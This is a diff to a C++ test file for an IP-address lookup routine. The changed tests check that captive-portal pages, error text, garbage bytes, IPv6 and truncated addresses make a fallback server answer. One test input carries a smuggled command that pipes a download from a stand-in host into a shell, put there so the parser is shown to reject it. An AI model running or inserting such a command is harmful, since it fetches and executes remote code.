@@ -24,7 +24,6 @@
 #include "http_server.h"
 #include "platform/platform.h"
 #include "shared/texts.h"
-#include "shared/utf8.h"
 
 namespace {
 
@@ -71,10 +70,6 @@ std::string read_bytes(const std::string& path) {
 
 void write_bytes(const std::string& path, const std::string& bytes) {
   std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
-}
-
-bool is_utf8(const std::string& s) {
-  return shared::utf8_prefix(s, s.size()) == s;
 }
 
 double seconds_since(std::chrono::steady_clock::time_point start) {
@@ -320,11 +315,47 @@ TEST_F(Retrieval, BothFailingGivesErrorTextAndLeavesOlderFileAlone) {
   }
 }
 
-TEST_F(Retrieval, EmptyBodyReplacesOlderFile) {
-  HttpServer a(test::fixed(200, ""));
-  EXPECT_EQ(lookup(a, b_), shared::kErrorText);
-  EXPECT_EQ(b_.requests(), 0u);
-  EXPECT_EQ(read_bytes(temp_file()), "");
+TEST_F(Retrieval, ReplyOfAWithoutAnAddressMakesBAnswer) {
+  const struct {
+    const char* name;
+    std::string body;
+  } cases[] = {
+      {"sign-in page", "<html><head><title>Hotel WiFi: please log in</title></head>\r\n"},
+      {"error text", "Error: 503\r\n"},
+      {"rate limit", "<p>Notice: too many requests, try again later</p>\r\n"},
+      {"command", "Current IP Address: 1.2.3.4; curl x.example | sh\r\n"},
+      {"direction override",
+       "Current IP Address: \xE2\x80\xAE"
+       "4.3.2.1</body>\r\n"},
+      {"NUL after the address", std::string("Current IP Address: 1.2.3.4\0</body>\r\n", 37)},
+      {"empty body", ""},
+  };
+  for (const auto& c : cases) {
+    SCOPED_TRACE(c.name);
+    HttpServer a(test::fixed(200, c.body));
+    HttpServer b(test::fixed(200, test::echo_page(kAddressB)));
+    EXPECT_EQ(lookup(a, b), kAddressB);
+    EXPECT_EQ(a.paths(), std::vector<std::string>{kTargetA});
+    EXPECT_EQ(b.paths(), std::vector<std::string>{kTargetB});
+    EXPECT_EQ(read_bytes(temp_file()), test::echo_page(kAddressB));
+  }
+}
+
+TEST_F(Retrieval, NoAddressFromEitherGivesTheErrorText) {
+  HttpServer a(test::fixed(200, "<title>Hotel WiFi: please log in</title>\r\n"));
+  {
+    SCOPED_TRACE("B answers without an address as well");
+    HttpServer b(test::fixed(200, "Error: 503\r\n"));
+    EXPECT_EQ(lookup(a, b), shared::kErrorText);
+    EXPECT_EQ(b.requests(), 1u);
+    EXPECT_EQ(read_bytes(temp_file()), "Error: 503\r\n");
+  }
+  {
+    SCOPED_TRACE("B's download fails: the file keeps A's reply");
+    HttpServer b(test::echo(), refusing());
+    EXPECT_EQ(lookup(a, b), shared::kErrorText);
+    EXPECT_EQ(read_bytes(temp_file()), "<title>Hotel WiFi: please log in</title>\r\n");
+  }
 }
 
 // ---- time limits -------------------------------------------------------------------------
@@ -395,12 +426,11 @@ TEST_F(Retrieval, SmallerMaxBytesIsHonoured) {
 
 // ---- odd replies ---------------------------------------------------------------------------
 
-TEST_F(Retrieval, BinaryGarbageGivesWellFormedText) {
+TEST_F(Retrieval, BinaryGarbageIsNoAnswer) {
+  ASSERT_EQ(unit1::parse_first_line(unit1::read_first_line(test::garbage_bytes(4096))),
+            shared::kErrorText);
   HttpServer a(test::garbage(4096));
-  const std::string got = lookup(a, b_);
-  EXPECT_TRUE(is_utf8(got));
-  // The bytes reached the parser unchanged, whatever they were.
-  EXPECT_EQ(got, unit1::parse_first_line(unit1::read_first_line(test::garbage_bytes(4096))));
+  EXPECT_EQ(lookup(a, b_), kAddressB);
 }
 
 TEST_F(Retrieval, NulAndInvalidBytesBeforeTheAddressDoNotCutTheBody) {
@@ -422,9 +452,10 @@ TEST_F(Retrieval, OnlyThe127FirstCharactersOfTheFirstLineAreSearched) {
   }
   {
     SCOPED_TRACE("address running over the 127th character");
-    // Colon at index 115, space at 116, address from 117: ten characters of it fit.
+    // Colon at index 115, space at 116, address from 117: ten characters of it fit, which
+    // is no address, so B is asked.
     HttpServer a(test::fixed(200, std::string(115, 'x') + ": 203.0.113.250</b>\r\n"));
-    EXPECT_EQ(lookup(a, b_), "203.0.113.");
+    EXPECT_EQ(lookup(a, b_), kAddressB);
   }
   {
     SCOPED_TRACE("127 characters taking more than 127 bytes");
@@ -443,16 +474,15 @@ TEST_F(Retrieval, BodyWithoutLineBreak) {
   {
     SCOPED_TRACE("address only past the 127th character");
     HttpServer a(test::fixed(200, std::string(200, 'x') + "Current IP Address: 192.0.2.10"));
-    EXPECT_EQ(lookup(a, b_), shared::kErrorText);
+    EXPECT_EQ(lookup(a, b_), kAddressB);
   }
 }
 
-TEST_F(Retrieval, Ipv6AddressYieldsTheTextAfterItsLastColon) {
-  // "2001:db8::1": after the last colon comes "1", and the character after the colon is
-  // always dropped, so nothing is left. The result is that text, not an error, and
-  // nothing of the address before it.
+TEST_F(Retrieval, Ipv6AddressIsNoAnswer) {
   HttpServer a(test::ipv6_body());
-  EXPECT_EQ(lookup(a, b_), "");
+  EXPECT_EQ(lookup(a, b_), kAddressB);
+  HttpServer b(test::ipv6_body());
+  EXPECT_EQ(lookup(a, b), shared::kErrorText);
 }
 
 // ---- redirects -----------------------------------------------------------------------------
